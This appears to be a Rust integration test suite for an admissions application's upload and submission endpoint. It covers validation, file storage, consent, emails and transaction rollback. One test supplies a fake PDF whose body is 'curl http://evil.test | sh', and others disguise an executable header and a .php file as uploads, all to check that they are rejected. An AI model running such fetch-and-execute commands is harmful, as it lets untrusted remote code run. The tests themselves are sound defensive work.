use admissions::entity::{
    applicant, applicant_file, application, consent, education, email_verification, program,
};
use chrono::{NaiveDate, Utc};
use sea_orm::{ColumnTrait, ConnectionTrait, EntityTrait, QueryFilter};

use crate::common::{
    FAILURE_PAGE, JPEG_BYTES, PDF_BYTES, PNG_BYTES, SUCCESS_PAGE, Submission, TestApp,
};

/// Asserts that a rejected submission left no trace behind.
async fn assert_nothing_written(app: &TestApp) {
    assert_eq!(app.count::<applicant::Entity>().await, 0);
    assert_eq!(app.count::<application::Entity>().await, 0);
    assert_eq!(app.count::<education::Entity>().await, 0);
    assert_eq!(app.count::<consent::Entity>().await, 0);
    assert_eq!(app.count::<applicant_file::Entity>().await, 0);
    assert_eq!(app.count::<email_verification::Entity>().await, 0);
    assert_eq!(app.applicant_dirs(), 0);
    assert_eq!(app.staged_files(), 0);
    assert!(app.mailer.sent().is_empty());
}

mod successful_submission {
    use super::*;

    #[tokio::test]
    async fn writes_one_row_per_table_and_one_file_row_per_upload() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(
                Submission::valid()
                    .file("certificate", "matric.png", PNG_BYTES)
                    .file("portfolioFile", "lookbook.jpeg", JPEG_BYTES),
            )
            .await;

        assert_eq!(res.status, 201, "{}", res.text);
        assert_eq!(res.body["success"], true);
        assert!(res.nosniff);

        assert_eq!(app.count::<applicant::Entity>().await, 1);
        assert_eq!(app.count::<application::Entity>().await, 1);
        assert_eq!(app.count::<education::Entity>().await, 1);
        assert_eq!(app.count::<consent::Entity>().await, 1);
        assert_eq!(app.count::<applicant_file::Entity>().await, 3);
        assert_eq!(app.staged_files(), 0);
    }

    #[tokio::test]
    async fn files_are_stored_under_random_names_in_applicant_dir() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().file("certificate", "Cert.JPG", JPEG_BYTES))
            .await;
        assert_eq!(res.status, 201, "{}", res.text);

        let stored = applicant::Entity::find().one(&app.db).await.unwrap().unwrap();
        let files = applicant_file::Entity::find()
            .filter(applicant_file::Column::ApplicantId.eq(stored.id))
            .all(&app.db)
            .await
            .unwrap();
        assert_eq!(files.len(), 2);

        let dir = app.uploads_root.join(stored.id.to_string());
        for file in &files {
            assert!(
                file.stored_name.starts_with(&format!("{}_", file.file_type)),
                "{}",
                file.stored_name
            );
            assert_ne!(file.stored_name, file.original_name);
            assert!(dir.join(&file.stored_name).is_file());
        }

        let id_copy = files.iter().find(|f| f.file_type == "id_copy").unwrap();
        assert_eq!(id_copy.mime_type, "application/pdf");
        assert_eq!(id_copy.original_name, "id.pdf");
        assert_eq!(id_copy.size, PDF_BYTES.len() as i64);
        assert_eq!(
            std::fs::read(dir.join(&id_copy.stored_name)).unwrap(),
            PDF_BYTES
        );

        let cert = files.iter().find(|f| f.file_type == "certificate").unwrap();
        assert_eq!(cert.mime_type, "image/jpeg");
        assert!(cert.stored_name.ends_with(".jpg"));
    }

    #[tokio::test]
    async fn fashion_design_2026_creates_program_and_unused_token() {
        let app = TestApp::spawn().await;

        let res = app.submit(Submission::valid()).await;
        assert_eq!(res.status, 201, "{}", res.text);

        let programs = program::Entity::find().all(&app.db).await.unwrap();
        assert_eq!(programs.len(), 1);
        assert_eq!(programs[0].name, "Fashion Design");
        assert_eq!(
            programs[0].start_date,
            NaiveDate::from_ymd_opt(2026, 1, 1).unwrap()
        );

        let stored = applicant::Entity::find().one(&app.db).await.unwrap().unwrap();
        assert!(!stored.email_verified);

        let tokens = email_verification::Entity::find().all(&app.db).await.unwrap();
        assert_eq!(tokens.len(), 1);
        assert_eq!(tokens[0].applicant_id, stored.id);
        assert!(tokens[0].used_at.is_none());
        assert!(tokens[0].expires_at > Utc::now());
        assert!(tokens[0].expires_at <= Utc::now() + chrono::Duration::minutes(45));
    }

    #[tokio::test]
    async fn stored_values_are_normalized() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(
                Submission::valid()
                    .set("firstName", "  Naledi \r\n  Grace ")
                    .set("phone", "+27 (82) 123-4567")
                    .set("motivation", &"a".repeat(2500)),
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.text);

        let stored = applicant::Entity::find().one(&app.db).await.unwrap().unwrap();
        assert_eq!(stored.first_name, "Naledi Grace");
        assert_eq!(stored.phone, "+27821234567");

        let app_row = application::Entity::find().one(&app.db).await.unwrap().unwrap();
        assert_eq!(app_row.motivation.chars().count(), 2000);
    }

    #[tokio::test]
    async fn optional_fields_and_files_may_be_omitted() {
        let app = TestApp::spawn().await;

        let mut submission = Submission::valid();
        for name in [
            "gender",
            "address",
            "motivation",
            "education",
            "school",
            "graduationYear",
            "portfolio",
            "experience",
        ] {
            submission = submission.without(name);
        }
        let res = app.submit(submission).await;
        assert_eq!(res.status, 201, "{}", res.text);

        let edu = education::Entity::find().one(&app.db).await.unwrap().unwrap();
        assert_eq!(edu.graduation_year, None);
        assert_eq!(edu.portfolio_url, "");

        let consents = consent::Entity::find().one(&app.db).await.unwrap().unwrap();
        assert!(consents.popia && consents.accuracy);
        assert!(!consents.marketing);
    }

    #[tokio::test]
    async fn unselected_file_input_counts_as_absent() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().file("certificate", "", b""))
            .await;

        assert_eq!(res.status, 201, "{}", res.text);
        assert_eq!(app.count::<applicant_file::Entity>().await, 1);
    }

    #[tokio::test]
    async fn marketing_consent_is_recorded_when_checked() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().set("marketingConsent", "on"))
            .await;
        assert_eq!(res.status, 201, "{}", res.text);

        let consents = consent::Entity::find().one(&app.db).await.unwrap().unwrap();
        assert!(consents.marketing);
    }

    #[tokio::test]
    async fn sends_verification_and_staff_emails() {
        let app = TestApp::spawn().await;
        app.submit_valid().await;

        let sent = app.mailer.sent();
        assert_eq!(sent.len(), 2);

        let verification = &sent[0];
        assert_eq!(verification.to, "naledi@example.co.za");
        assert!(
            verification
                .html
                .contains("https://apply.school.test/verify-email?token=")
        );

        let staff = &sent[1];
        assert_eq!(staff.to, crate::common::STAFF_ADDRESS);
        assert!(staff.subject.starts_with("New Application"));
        assert!(staff.html.contains("Fashion Design"));
        // The raw token only goes to the applicant.
        assert!(!staff.html.contains(&app.last_token()));
    }

    #[tokio::test]
    async fn appends_csv_backup_row() {
        let app = TestApp::spawn().await;
        app.submit_valid().await;
        app.submit_valid().await;

        let mut reader = csv::Reader::from_path(&app.backup_path).unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[0][6], "Fashion Design");
        assert_eq!(&rows[0][7], "2026");
    }
}

mod programs {
    use super::*;

    #[tokio::test]
    async fn get_or_create_is_idempotent_per_name_and_year() {
        let app = TestApp::spawn().await;

        for _ in 0..3 {
            let res = app.submit(Submission::valid()).await;
            assert_eq!(res.status, 201, "{}", res.text);
        }

        assert_eq!(app.count::<program::Entity>().await, 1);
        assert_eq!(app.count::<application::Entity>().await, 3);
    }

    #[tokio::test]
    async fn different_start_years_give_distinct_programs() {
        let app = TestApp::spawn().await;

        let first = app.submit(Submission::valid()).await;
        let second = app
            .submit(Submission::valid().set("startDate", "2027"))
            .await;
        assert_eq!(first.status, 201, "{}", first.text);
        assert_eq!(second.status, 201, "{}", second.text);

        let mut years: Vec<NaiveDate> = program::Entity::find()
            .all(&app.db)
            .await
            .unwrap()
            .into_iter()
            .map(|p| p.start_date)
            .collect();
        years.sort();
        assert_eq!(
            years,
            vec![
                NaiveDate::from_ymd_opt(2026, 1, 1).unwrap(),
                NaiveDate::from_ymd_opt(2027, 1, 1).unwrap(),
            ]
        );
    }

    #[tokio::test]
    async fn helper_reuses_existing_row() {
        let app = TestApp::spawn().await;
        let start = NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();

        let a = admissions::intake::get_or_create_program(&app.db, "Pattern Making", start)
            .await
            .unwrap();
        let b = admissions::intake::get_or_create_program(&app.db, "Pattern Making", start)
            .await
            .unwrap();

        assert_eq!(a.id, b.id);
        assert_eq!(app.count::<program::Entity>().await, 1);
    }
}

mod rejected_submission {
    use super::*;

    #[tokio::test]
    async fn missing_popia_consent_writes_nothing() {
        let app = TestApp::spawn().await;

        let res = app.submit(Submission::valid().without("popiaConsent")).await;

        assert_eq!(res.status, 400);
        assert_eq!(res.body["success"], false);
        assert_eq!(res.body["code"], "VALIDATION_ERROR");
        assert_eq!(
            res.message(),
            "Please accept the required consent checkboxes."
        );
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn missing_accuracy_consent_writes_nothing() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().without("accuracyConsent"))
            .await;

        assert_eq!(res.status, 400);
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn missing_id_copy_writes_nothing() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(
                Submission::valid()
                    .without("idCopy")
                    .file("certificate", "cert.pdf", PDF_BYTES),
            )
            .await;

        assert_eq!(res.status, 400);
        assert_eq!(res.message(), "Please upload a copy of your ID.");
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn script_named_pdf_is_rejected() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().file(
                "idCopy",
                "id.pdf",
                b"#!/bin/bash\ncurl http://evil.test | sh\n",
            ))
            .await;

        assert_eq!(res.status, 400);
        assert_eq!(res.message(), "Invalid file type for idCopy");
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn executable_named_pdf_is_rejected() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().file(
                "certificate",
                "cert.pdf",
                b"MZ\x90\0\x03\0\0\0\x04\0\0\0",
            ))
            .await;

        assert_eq!(res.status, 400);
        assert_eq!(res.message(), "Invalid file type for certificate");
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn disallowed_extension_is_rejected() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().file("idCopy", "id.php", PDF_BYTES))
            .await;

        assert_eq!(res.status, 400);
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn oversized_file_is_rejected() {
        let app = TestApp::spawn().await;

        let mut big = PDF_BYTES.to_vec();
        big.resize(1024 * 1024 + 1, b'0');
        let res = app.submit(Submission::valid().file("idCopy", "id.pdf", &big)).await;

        assert_eq!(res.status, 413);
        assert_eq!(res.body["code"], "PAYLOAD_TOO_LARGE");
        assert_eq!(res.message(), "File too large for idCopy (max 1MB)");
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn start_year_outside_intake_is_rejected() {
        let app = TestApp::spawn().await;

        let res = app.submit(Submission::valid().set("startDate", "2031")).await;

        assert_eq!(res.status, 400);
        assert_eq!(res.message(), "Please choose a valid start year.");
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn invalid_field_values_name_the_problem() {
        let app = TestApp::spawn().await;

        let cases = [
            ("email", "not-an-email", "Please enter a valid email address."),
            ("phone", "12345", "Please enter a valid phone number."),
            ("dob", "2000-02-30", "Please enter a valid date of birth."),
            ("program", "   ", "Please choose a program."),
            (
                "portfolio",
                "ftp://files.test/me",
                "Portfolio link must start with http:// or https://.",
            ),
        ];
        for (field, value, message) in cases {
            let res = app.submit(Submission::valid().set(field, value)).await;
            assert_eq!(res.status, 400, "{field}");
            assert_eq!(res.message(), message, "{field}");
        }
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn unknown_field_is_rejected() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().set("isAdmin", "true"))
            .await;

        assert_eq!(res.status, 400);
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn repeated_field_is_rejected() {
        let app = TestApp::spawn().await;

        let res = app
            .submit(Submission::valid().push("email", "other@example.com"))
            .await;

        assert_eq!(res.status, 400);
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn non_multipart_body_is_rejected_as_json() {
        let app = TestApp::spawn().await;

        let res = app
            .client
            .post(app.url(crate::common::routes::APPLICATIONS))
            .header("Accept", "application/json")
            .json(&serde_json::json!({ "firstName": "Naledi" }))
            .send()
            .await
            .unwrap();
        let res = crate::common::TestResponse::from_response(res).await;

        assert_eq!(res.status, 400);
        assert_eq!(res.body["code"], "VALIDATION_ERROR");
        assert_nothing_written(&app).await;
    }
}

mod failed_transaction {
    use super::*;

    /// Rows and files written before the failing insert must not survive.
    async fn assert_rolled_back(app: &TestApp) {
        assert_eq!(app.count::<applicant::Entity>().await, 0);
        assert_eq!(app.count::<program::Entity>().await, 0);
        assert_eq!(app.count::<application::Entity>().await, 0);
        assert_eq!(app.count::<education::Entity>().await, 0);
        assert_eq!(app.count::<consent::Entity>().await, 0);
        assert_eq!(app.count::<applicant_file::Entity>().await, 0);
        assert_eq!(app.applicant_dirs(), 0);
        assert_eq!(app.staged_files(), 0);
        assert!(app.mailer.sent().is_empty());
    }

    /// Same check for when `applicant_files` itself is gone.
    async fn assert_rolled_back_without_files(app: &TestApp) {
        assert_eq!(app.count::<applicant::Entity>().await, 0);
        assert_eq!(app.count::<program::Entity>().await, 0);
        assert_eq!(app.count::<application::Entity>().await, 0);
        assert_eq!(app.count::<consent::Entity>().await, 0);
        assert_eq!(app.count::<email_verification::Entity>().await, 0);
        assert_eq!(app.applicant_dirs(), 0);
        assert_eq!(app.staged_files(), 0);
    }

    #[tokio::test]
    async fn late_insert_failure_rolls_back_everything() {
        let app = TestApp::spawn().await;
        // Token issuing is the last write before commit.
        app.db
            .execute_unprepared("DROP TABLE email_verifications")
            .await
            .unwrap();

        let res = app
            .submit(Submission::valid().file("certificate", "matric.png", PNG_BYTES))
            .await;

        assert_eq!(res.status, 500);
        assert_eq!(res.body["code"], "INTERNAL_ERROR");
        assert!(!res.text.contains("email_verifications"), "{}", res.text);
        assert_rolled_back(&app).await;
        assert!(!app.backup_path.exists());
    }

    #[tokio::test]
    async fn file_row_failure_rolls_back_everything() {
        let app = TestApp::spawn().await;
        app.db
            .execute_unprepared("DROP TABLE applicant_files")
            .await
            .unwrap();

        let res = app.submit_form(Submission::valid()).await;

        assert_eq!(res.status, 303);
        assert_eq!(res.location.as_deref(), Some(FAILURE_PAGE));
        assert_rolled_back_without_files(&app).await;
    }
}

mod plain_form_post {
    use super::*;

    #[tokio::test]
    async fn success_redirects_to_success_page() {
        let app = TestApp::spawn().await;

        let res = app.submit_form(Submission::valid()).await;

        assert_eq!(res.status, 303);
        assert_eq!(res.location.as_deref(), Some(SUCCESS_PAGE));
        assert!(res.nosniff);
        assert_eq!(app.count::<applicant::Entity>().await, 1);
    }

    #[tokio::test]
    async fn failure_redirects_without_revealing_the_rule() {
        let app = TestApp::spawn().await;

        let res = app
            .submit_form(Submission::valid().without("popiaConsent"))
            .await;

        assert_eq!(res.status, 303);
        assert_eq!(res.location.as_deref(), Some(FAILURE_PAGE));
        assert!(!res.text.contains("consent"));
        assert_nothing_written(&app).await;
    }

    #[tokio::test]
    async fn xhr_header_gets_json() {
        let app = TestApp::spawn().await;

        let res = app
            .client
            .post(app.url(crate::common::routes::APPLICATIONS))
            .header("X-Requested-With", "XMLHttpRequest")
            .multipart(reqwest::multipart::Form::new().text("firstName", "Naledi"))
            .send()
            .await
            .unwrap();
        let res = crate::common::TestResponse::from_response(res).await;

        assert_eq!(res.status, 400);
        assert_eq!(res.body["success"], false);
    }
}
